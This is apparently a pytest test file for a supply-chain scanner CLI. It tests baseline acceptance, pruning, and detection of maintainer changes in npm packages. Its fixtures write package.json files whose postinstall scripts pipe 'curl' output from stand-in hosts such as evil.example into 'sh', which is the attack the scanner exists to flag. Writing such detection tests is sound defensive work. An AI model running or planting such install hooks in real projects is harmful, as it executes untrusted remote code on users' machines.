import json
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

from picketline.cli.picosentry import baseline, scan
from picketline.packages.accepted import load

MANIFEST = {"name": "x", "version": "1.0.0"}
BAD = {"scripts": {"postinstall": "curl https://evil.example/i | sh"}}


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project whose install fetches a script and runs it."""
    for name in ("HOME", "XDG_DATA_HOME", "XDG_CACHE_HOME"):
        monkeypatch.setenv(name, str(tmp_path / "home"))
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "package.json").write_text(json.dumps(MANIFEST | BAD))
    return folder


def run(command: object, *argv: object) -> tuple[int, str]:
    """The exit code, and all that is said."""
    words = [str(word) for word in argv]
    done = CliRunner().invoke(command, words, standalone_mode=False)  # type: ignore[arg-type]  # a click command
    if done.exception is not None:
        raise done.exception
    return int(done.return_value), done.output


def test_from_a_finding_to_none(project: Path) -> None:
    """Found; accepted with a reason; clean with -b; fixed; and pruned."""
    gate = (project, "--fail-on", "medium", "-q")
    assert run(scan.command, *gate)[0] == 1
    code, said = run(baseline.command, "accept", project, "--reason", "ticket 311")
    assert code == 0
    assert "accepted critical L2-POST-001 pkg:npm/x " in said
    file = project / baseline.NAME
    assert run(scan.command, *gate, "-b", file)[0] == 0
    assert run(baseline.command, "prune", project)[1].endswith("0 dropped, 1 accepted\n")
    (project / "package.json").write_text(json.dumps(MANIFEST))
    code, said = run(baseline.command, "prune", project)
    assert code == 0
    assert said.startswith("dropped L2-POST-001 pkg:npm/x ")
    assert not load(file.read_bytes(), "f", frozenset())


def test_another_command_is_told(project: Path) -> None:
    """What was accepted hides nothing that is new, whatever the version."""
    run(baseline.command, "accept", project, "--reason", "x")
    other = {"version": "1.0.1", "scripts": {"postinstall": "curl https://other.example/j | sh"}}
    (project / "package.json").write_text(json.dumps(MANIFEST | other))
    code, _ = run(scan.command, project, "-b", project / baseline.NAME, "--fail-on", "high", "-q")
    assert code == 1


TOOL = {"name": "tool", "version": "1.0.0", "author": "Ann <ann@home.example>"}


def installed(project: Path, **changes: str) -> None:
    """Put the package `tool` into a project, with some of its fields changed."""
    path = project / "node_modules" / "tool" / "package.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(TOOL | changes))
    (project / "package.json").write_text(json.dumps(MANIFEST))


def told(project: Path) -> list[tuple[str, str]]:
    """Subject and severity of what L2-MAINT-001 finds by the baseline, that nobody accepted."""
    out = project.parent / "report.json"
    argv = ("-b", project / baseline.NAME, "-f", "json", "-o", out, "-r", "L2-MAINT-001")
    assert run(scan.command, project, *argv)[0] == 0
    findings = json.loads(out.read_bytes())["parts"][0]["findings"]
    return [(f["subject"]["identity"], f["severity"]) for f in findings if not f["reason"]]


def test_a_known_state(project: Path) -> None:
    """Noted; the same says nothing, another version of others is told; then it is the known one."""
    installed(project)
    code, said = run(baseline.command, "accept", project, "--reason", "x", "--known-state")
    assert code == 0
    assert said.endswith(".picosentry-baseline.json: 0 accepted, state of packages known: 1\n")
    assert told(project) == []
    installed(project, author="Eve <eve@mail.example>", version="3.0.0")
    assert told(project) == [("pkg:npm/tool", "medium")]
    run(baseline.command, "accept", project, "--reason", "handed over", "--known-state")
    assert told(project) == []


def test_a_change_is_accepted_alone(project: Path) -> None:
    """Without --known-state: that finding by its fingerprint; the state stays, prune keeps both."""
    installed(project)
    run(baseline.command, "accept", project, "--reason", "x", "--known-state")
    installed(project, author="Eve")
    code, said = run(baseline.command, "accept", project, "--reason", "asked Ann")
    assert code == 0
    assert "accepted medium   L2-MAINT-001 pkg:npm/tool " in said
    assert told(project) == []
    code, said = run(baseline.command, "prune", project)
    assert said.endswith("0 dropped, 1 accepted\n")
    held = load((project / baseline.NAME).read_bytes(), "f", frozenset())
    assert [each.people for each in held.known] == [("ann", "ann@home.example")]


def test_what_the_known_state_lacks_is_coverage(project: Path) -> None:
    """A package that came later is told of nowhere else, and not guessed at."""
    installed(project)
    run(baseline.command, "accept", project, "--reason", "x", "--known-state")
    other = project / "node_modules" / "other" / "package.json"
    other.parent.mkdir()
    other.write_text(json.dumps(TOOL | {"name": "other", "author": "Eve"}))
    assert told(project) == []
    coverage = json.loads((project.parent / "report.json").read_bytes())["parts"][0]["coverage"]
    (gap,) = (each for each in coverage if each["what"] == "known state")
    assert gap["why"] == "names that it does not note, so that nothing can be compared: 1"


def test_a_report_names_no_people(project: Path) -> None:
    """So no known state can be taken from one."""
    out = project.parent / "report.json"
    run(scan.command, project, "-f", "json", "-o", out)
    with pytest.raises(click.BadParameter, match="is a report, which names no people"):
        run(baseline.command, "accept", out, "--reason", "x", "--known-state")
